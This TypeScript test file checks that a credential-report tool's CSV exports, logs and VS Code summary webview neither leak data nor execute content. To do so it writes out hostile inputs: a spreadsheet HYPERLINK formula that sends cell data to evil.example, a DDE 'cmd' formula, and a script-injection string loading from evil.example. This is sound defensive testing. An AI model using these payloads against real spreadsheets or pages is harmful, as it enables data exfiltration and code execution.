import * as assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { loadBundledPolicies } from '../../../src/core/checks/catalog';
import { Finding } from '../../../src/core/model';
import { buildSummary, renderSummaryPage } from '../../../src/extension/logic/summaryPage';
import { reportText, userLine } from '../report/reportText';
import { credcheck } from './cliProcess';

/**
 * What leaves the tool: exported files must not run as formulas in a spreadsheet, must not carry report contents the
 * findings do not need, and the summary webview must load and run nothing.
 */

const NOW = '2024-06-01T00:00:00Z';
const FORMULA_START = /^[=+\-@\t\r]/;

describe('exports, logs and the webview do not leak or execute', function () {
  this.timeout(120_000);
  let directory: string;
  before(() => {
    directory = mkdtempSync(join(tmpdir(), 'credcheck-exports-'));
  });
  after(() => rmSync(directory, { recursive: true, force: true }));

  it('neutralises formula injection in `credcheck check --format csv`, from user names and policy messages', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1', '-1', '@SUM(A1:A9)', "=cmd|' /C calc'!A0"];
    const quote = (text: string) => `"${text.replace(/"/g, '""')}"`;
    writeFileSync(join(directory, 'report.csv'), reportText(...hostile.map((name) => userLine({ user: quote(name), arn: quote(`arn:aws:iam::111122223333:user/${name}`), mfa_active: 'false' }))));
    // Names are trimmed when read, so tab- and CR-led cells come from a policy's messages instead.
    writeFileSync(
      join(directory, 'lead.rego'),
      'package acme.lead\nimport rego.v1\ndeny contains {"msg": concat("", [prefix, "=1+1"]), "user": u.user, "line": u.line} if {\n' +
        '  some u in input.users\n  some prefix in ["\\t", "\\r", "-", ""]\n}\n',
    );
    const result = await credcheck(['check', 'report.csv', '--policy', 'lead.rego', '--now', NOW, '--format', 'csv', '--output', 'findings.csv'], { cwd: directory });
    assert.equal(result.code, 1, result.stderr);
    const rows = parse(readFileSync(join(directory, 'findings.csv'), 'utf8'), { columns: true, relax_column_count: false }) as Record<string, string>[];
    assert.ok(rows.length >= hostile.length * 5, `${rows.length} rows`);
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) assert.doesNotMatch(cell, FORMULA_START, `${column}: ${JSON.stringify(cell)}`);
    }
    // The text is kept, behind the quote that makes it text.
    assert.deepEqual([...new Set(rows.map((row) => row.user))].sort(), hostile.map((name) => `'${name}`).sort());
    const messages = new Set(rows.filter((row) => row.check.startsWith('acme')).map((row) => row.message));
    assert.deepEqual([...messages].sort(), ["'\t=1+1", "'\r=1+1", "'-=1+1", "'=1+1"].sort());
  });

  it('never writes report contents the findings do not need to stderr or to any output format', async () => {
    const marker = 'SENSITIVEzq81vX0cq7fLpd2e9Hk4';
    // An extra column holds the marker: no finding needs it (a key's region, by contrast, may appear in a message).
    const text = reportText(userLine({ user: 'alice', mfa_active: 'false' })).replace('\n', ',internal_note\n').replace(/\n$/, `,${marker}\n`);
    writeFileSync(join(directory, 'marked.csv'), text);
    for (const format of ['table', 'json', 'csv', 'markdown', 'sarif', 'junit']) {
      const result = await credcheck(['check', 'marked.csv', '--now', NOW, '--format', format, '--output', `out.${format}`], { cwd: directory });
      assert.equal(result.code, 1, `${format}: ${result.stderr}`);
      const written = readFileSync(join(directory, `out.${format}`), 'utf8');
      assert.ok(written.includes('alice'), `${format} output names the user`);
      for (const [where, content] of [['stdout', result.stdout], ['stderr', result.stderr], [`out.${format}`, written]]) {
        assert.ok(!content!.includes(marker), `${format}: the report's contents reached ${where}`);
      }
    }
  });

  it('renders the summary webview with a strict CSP, no script and nothing remote, whatever the findings say', () => {
    const bundled = loadBundledPolicies();
    const evil = '"><script src="https://evil.example/x.js"></script><img src=x onerror=alert(1)>';
    const findings: Finding[] = bundled.checks.slice(0, 3).map((entry, index) => ({
      check: entry.id, status: 'fail', severity: 'high', user: `${evil}${index}`, arn: null, key: null, file: evil, line: 2, column: null, message: evil, account: null,
    }));
    const data = buildSummary({
      file: evil, evaluationTime: NOW, framework: 'cis-5.0', findings, catalog: bundled.checks, input: undefined,
      accessKeyRotationDays: 90, unusedCredentialDays: 45,
    });
    const html = renderSummaryPage(data, { cspSource: 'vscode-webview://1234', nonce: 'n0nce' });
    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html)?.[1];
    assert.ok(csp, 'the page has a CSP meta tag');
    assert.match(csp, /^default-src 'none';/);
    assert.doesNotMatch(csp, /script-src|unsafe-inline|unsafe-eval|https?:/);
    assert.match(csp, /style-src 'nonce-n0nce'/);
    assert.ok(html.indexOf('Content-Security-Policy') < html.indexOf('<style'), 'the CSP comes before any content');
    assert.doesNotMatch(html, /<script/i);
    // Text is escaped, so every `<` left is a real tag: none may load or run anything.
    for (const tag of html.match(/<[a-z][^>]*>/gi) ?? []) assert.doesNotMatch(tag, /\s(src|href|on\w+|srcset|action|formaction)\s*=/i, tag);
    assert.doesNotMatch(html, /url\(|@import/i);
    for (const style of html.match(/<style[^>]*>/g) ?? []) assert.equal(style, '<style nonce="n0nce">');
    assert.ok(html.includes('&lt;script src=&quot;https://evil.example/x.js&quot;&gt;'), 'hostile text is shown escaped');

    // The panel itself: scripts off and no local resources, in the extension's source (it needs vscode to run).
    const source = readFileSync(join(__dirname, '../../../../src/extension/summaryWebview.ts'), 'utf8');
    assert.match(source, /enableScripts:\s*false/);
    assert.match(source, /localResourceRoots:\s*\[\]/);
    assert.match(source, /nonce:\s*randomBytes\(16\)/, 'a fresh random nonce per render');
  });
});
